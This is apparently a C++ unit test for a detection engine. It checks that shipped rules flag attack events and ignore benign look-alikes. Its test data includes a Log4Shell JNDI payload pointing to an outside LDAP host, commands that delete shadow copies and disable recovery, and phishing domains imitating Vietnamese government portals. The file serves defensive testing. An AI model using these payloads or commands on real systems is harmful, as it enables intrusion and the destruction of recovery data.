// khien's shipped detection rules (data/rules/) on events in the common schema: each rule fires on
// the attack it describes and stays quiet on the look-alike benign event next to it.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "core/field_dictionary.h"
#include "detect/field_pipeline.h"
#include "detect/rule_set.h"
#include "detect/rules_check.h"

namespace khien {
namespace {

// One field of an example event; numbers and addresses are typed as the decoders type them.
struct F {
  const char* name;
  const char* text = nullptr;
  std::int64_t number = 0;
};

struct Case {
  const char* rule;             // title of the shipped rule
  std::vector<F> event;
  bool fires;
};

const RuleSet& shipped() {
  static RuleSet s = [] {
    auto p = FieldPipeline::load_default(KHIEN_SOURCE_DIR);
    EXPECT_TRUE(p);
    LoadedRules loaded = load_rules({std::string(KHIEN_SOURCE_DIR) + "/data/rules"});
    EXPECT_TRUE(loaded.errors.empty());
    auto r = compile_rules(std::move(loaded.rules), *p);
    EXPECT_TRUE(r);
    EXPECT_TRUE(r->skipped().empty());
    return std::move(*r);
  }();
  return s;
}

std::vector<std::string> titles(const std::vector<F>& fields) {
  Arena arena;
  Event e(arena);
  for (const auto& f : fields) {
    FieldId id = intern_field(f.name);
    if (!f.text) e.add(id, Value::of_int(f.number));
    else if (auto ip = IpAddress::parse(f.text); ip && std::string_view(f.name).ends_with(".ip")) e.add(id, Value::of_ip(*ip));
    else e.add(id, Value::of_string(f.text));
  }
  std::vector<std::string> out;
  auto scratch = shipped().make_scratch();
  shipped().match(e, scratch, [&](std::size_t r) { out.push_back(shipped().rule(r).title); });
  return out;
}

const char* const kLookalike = "Look-alike Domain of a Vietnamese Government Service";
const char* const kLure = "Executable With a Document-Lure Name";
const char* const kMasquerade = "Windows System Process Name Outside the System Folders";
const char* const kAbusedTld = "Executable Downloaded From a Domain Under a Frequently Abused TLD";
const char* const kUserExec = "Executable Started From a Temporary or Download Folder by a User Application";
const char* const kShadow = "Shadow Copies or System Recovery Deleted or Disabled";
const char* const kJndi = "JNDI Lookup Injected Into an HTTP Request (Log4Shell)";
const char* const kIdsScan = "IDS Scan or Known-Attacker Signature Against a Member Network";
const char* const kDbProbe = "Internet Probe of a Database or Cache Service Port";

const std::vector<Case>& cases() {
  static const std::vector<Case> c = {
      // Government look-alikes: DNS, web, TLS and proxy URL; the real portals and the Government's news site are not.
      {kLookalike, {{"class_uid", nullptr, 4003}, {"query.hostname", "dichvucong-gov-vn.top"}}, true},
      {kLookalike, {{"class_uid", nullptr, 4004}, {"tls.sni", "login.vneid-xacthuc.online"}}, true},
      {kLookalike, {{"class_uid", nullptr, 2004}, {"url.url_string", "http://thuedientu-gov.vn.tracuu.icu/dang-nhap"}}, true},
      {kLookalike, {{"class_uid", nullptr, 4003}, {"query.hostname", "dichvucong.gov.vn"}}, false},
      {kLookalike, {{"class_uid", nullptr, 4003}, {"query.hostname", "baochinhphu.vn"}}, false},
      {kLookalike, {{"class_uid", nullptr, 2004}, {"url.url_string", "https://thuedientu.gdt.gov.vn/etaxnnt/"}}, false},
      // Lure-named executables in file and process events; a lure-named PDF and a plain installer are not.
      {kLure, {{"class_uid", nullptr, 4010}, {"file.name", "EVN_HoaDon_T11.exe"}}, true},
      {kLure, {{"class_uid", nullptr, 1007}, {"process.name", "Quyet-Dinh-Khen-Thuong.scr"}}, true},
      {kLure, {{"class_uid", nullptr, 1001}, {"file.name", "bao-cao-quy-3.pdf.exe"}}, true},
      {kLure, {{"class_uid", nullptr, 4010}, {"file.name", "cong-van-1234.pdf"}}, false},
      {kLure, {{"class_uid", nullptr, 4010}, {"file.name", "ChromeSetup.exe"}}, false},
      // System process names in user folders; the real svchost is not.
      {kMasquerade, {{"class_uid", nullptr, 1007}, {"process.name", "svchostupd.exe"},
                     {"process.file.path", "C:\\Users\\an\\AppData\\Local\\Temp\\svchostupd.exe"}}, true},
      {kMasquerade, {{"class_uid", nullptr, 2004}, {"file.name", "lsass.exe"}, {"file.path", "C:\\ProgramData\\lsass.exe"}}, true},
      {kMasquerade, {{"class_uid", nullptr, 1007}, {"process.name", "svchost.exe"},
                     {"process.file.path", "C:\\Windows\\System32\\svchost.exe"}}, false},
      {kMasquerade, {{"class_uid", nullptr, 2004}, {"file.name", "services.txt"}, {"file.path", "C:\\Users\\an\\services.txt"}}, false},
      // Executables fetched from abused TLDs (IDS file log, firewall sandbox URL); a PDF there and an exe elsewhere are not.
      {kAbusedTld, {{"class_uid", nullptr, 4010}, {"url.hostname", "evn-hoadon.xyz"}, {"file.name", "EVN_HoaDon_T11.exe"}}, true},
      {kAbusedTld, {{"class_uid", nullptr, 2004}, {"url.url_string", "http://cdn.capnhat.top/files/setup.msi"}, {"url.path", "/files/setup.msi"}}, true},
      {kAbusedTld, {{"class_uid", nullptr, 4010}, {"url.hostname", "evn-hoadon.xyz"}, {"file.name", "hoa-don.pdf"}}, false},
      {kAbusedTld, {{"class_uid", nullptr, 4010}, {"url.hostname", "dl.google.com"}, {"file.name", "ChromeSetup.exe"}}, false},
      // User execution from Temp / Downloads by the shell, mail or browser; a service starting from Temp is another story.
      {kUserExec, {{"class_uid", nullptr, 1007}, {"process.file.path", "C:\\Users\\an\\AppData\\Local\\Temp\\scan_0421.exe"},
                   {"actor.process.name", "OUTLOOK.EXE"}}, true},
      {kUserExec, {{"class_uid", nullptr, 1007}, {"process.file.path", "C:\\Users\\an\\Downloads\\tool.exe"},
                   {"actor.process.name", "explorer.exe"}}, true},
      {kUserExec, {{"class_uid", nullptr, 1007}, {"process.file.path", "C:\\Users\\an\\AppData\\Local\\Temp\\update.exe"},
                   {"actor.process.name", "services.exe"}}, false},
      {kUserExec, {{"class_uid", nullptr, 1007}, {"process.file.path", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
                   {"actor.process.name", "explorer.exe"}}, false},
      // Recovery inhibition; listing shadow copies is not.
      {kShadow, {{"class_uid", nullptr, 1007}, {"process.cmd_line", "vssadmin.exe Delete Shadows /All /Quiet"}}, true},
      {kShadow, {{"class_uid", nullptr, 1007}, {"process.cmd_line", "wmic.exe shadowcopy delete /nointeractive"}}, true},
      {kShadow, {{"class_uid", nullptr, 1007}, {"process.cmd_line", "bcdedit /set {default} recoveryenabled No"}}, true},
      {kShadow, {{"class_uid", nullptr, 1007}, {"process.cmd_line", "vssadmin list shadows"}}, false},
      // JNDI lookups in URL or user agent, plain and obfuscated; an ordinary request is not.
      {kJndi, {{"class_uid", nullptr, 4002}, {"http_request.user_agent", "${jndi:ldap://194.26.29.14:1389/ua}"}}, true},
      {kJndi, {{"class_uid", nullptr, 4002}, {"url.url_string", "http://www.example.vn/portal/search?q=${${lower:j}ndi:${lower:l}dap://x/a}"}}, true},
      {kJndi, {{"class_uid", nullptr, 4002}, {"url.url_string", "http://www.example.vn/portal/search?q=jndi+tutorial"}}, false},
      // IDS scan signatures and Zeek scan notices; a policy signature is not, nor a scan title outside a detection.
      {kIdsScan, {{"class_uid", nullptr, 2004}, {"finding_info.title", "ET SCAN Potential SSH Scan"}}, true},
      {kIdsScan, {{"class_uid", nullptr, 2004}, {"finding_info.uid", "Scan::Port_Scan"}}, true},
      {kIdsScan, {{"class_uid", nullptr, 2004}, {"finding_info.title", "ET POLICY curl User-Agent Outbound"}}, false},
      {kIdsScan, {{"class_uid", nullptr, 4001}, {"finding_info.title", "ET SCAN Potential SSH Scan"}}, false},
      // Database ports probed from the Internet; from inside, outbound, or a web port, not.
      {kDbProbe, {{"class_uid", nullptr, 4001}, {"src_endpoint.ip", "45.135.232.6"}, {"dst_endpoint.port", nullptr, 6379}}, true},
      {kDbProbe, {{"class_uid", nullptr, 0}, {"src_endpoint.ip", "80.94.95.68"}, {"dst_endpoint.port", nullptr, 1433}}, true},
      {kDbProbe, {{"class_uid", nullptr, 4001}, {"src_endpoint.ip", "10.1.2.3"}, {"dst_endpoint.port", nullptr, 6379}}, false},
      {kDbProbe, {{"class_uid", nullptr, 4001}, {"src_endpoint.ip", "45.135.232.6"}, {"dst_endpoint.port", nullptr, 443}}, false},
      {kDbProbe, {{"class_uid", nullptr, 4001}, {"src_endpoint.ip", "45.135.232.6"}, {"dst_endpoint.port", nullptr, 3306},
                  {"connection_info.direction", "outbound"}}, false},
  };
  return c;
}

TEST(ShippedRules, EachRuleFiresOnItsAttackAndNotOnTheBenignNeighbour) {
  for (std::size_t i = 0; i < cases().size(); ++i) {
    const Case& c = cases()[i];
    auto got = titles(c.event);
    bool fired = std::find(got.begin(), got.end(), c.rule) != got.end();
    EXPECT_EQ(fired, c.fires) << "case " << i << " (" << c.rule << "): " << c.event[1].name << "="
                              << (c.event[1].text ? c.event[1].text : "");
  }
}

TEST(ShippedRules, EveryRuleHasAPositiveAndANegativeCase) {
  for (std::size_t r = 0; r < shipped().size(); ++r) {
    const auto& rule = shipped().rule(r);
    if (rule.id.rfind("2f0c5d0e-", 0) == 0) continue;  // the older rules are tested in detect_correlation_test.cpp
    bool pos = false, neg = false;
    for (const auto& c : cases())
      if (rule.title == c.rule) (c.fires ? pos : neg) = true;
    EXPECT_TRUE(pos && neg) << rule.title;
  }
}

// Every shipped rule carries what an analyst filters and pivots on.
TEST(ShippedRules, MetadataIsComplete) {
  std::set<std::string> ids;
  for (std::size_t r = 0; r < shipped().size(); ++r) {
    const auto& rule = shipped().rule(r);
    EXPECT_TRUE(ids.insert(rule.id).second) << "duplicate id " << rule.id;
    EXPECT_EQ(rule.id.size(), 36u) << rule.title;
    EXPECT_FALSE(rule.level.empty()) << rule.title;
    if (rule.id.rfind("2f0c5d0e-", 0) == 0) continue;
    EXPECT_FALSE(rule.description.empty()) << rule.title;
    EXPECT_TRUE(std::any_of(rule.tags.begin(), rule.tags.end(), [](const std::string& t) { return t.rfind("attack.t", 0) == 0; }))
        << rule.title << ": no ATT&CK technique tag";
  }
}

}  // namespace
}  // namespace khien
